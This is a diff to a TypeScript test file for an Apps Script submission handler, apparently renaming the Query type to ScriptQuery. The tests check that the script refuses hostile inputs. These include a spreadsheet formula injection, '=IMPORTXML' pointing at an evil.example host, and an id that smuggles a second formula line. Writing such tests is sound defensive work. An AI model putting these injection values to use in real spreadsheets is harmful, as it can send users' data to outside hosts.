@@ -1,6 +1,6 @@
 import { FORMS } from '../src/submission/forms/index';
 import type { SubmissionKind } from '../src/submission/types';
-import { startScript, type Query, type RunningScript } from './testing/appsScript';
+import { startScript, type ScriptQuery, type RunningScript } from './testing/appsScript';
 import { createKey, createPayload } from './testing/submit';
 
 /** The real docs/apps-script.gs with fake Google services. These tests check the requests that the script refuses. */
@@ -58,7 +58,7 @@ test.each<[string, unknown]>([
   expect(script.google.loggedErrors).toHaveLength(2);
 });
 
-test.each<[string, Query]>([
+test.each<[string, ScriptQuery]>([
   ['a formula as the id', { submission: '=IMPORTXML("https://evil.example")' }],
   ['an empty id', { submission: '' }],
   ['an id with a second line', { submission: `${createKey()}\n=1+1` }],
@@ -93,7 +93,7 @@ describe('§8 the script with RELAY_SECRET', () => {
     expect(script.countRows()).toMatchObject({ Contact: 1 });
   });
 
-  test.each<[string, Query]>([
+  test.each<[string, ScriptQuery]>([
     ['no secret', {}],
     ['an empty secret', { secret: '' }],
     ['another secret', { secret: `${secret.slice(0, -1)}x` }],
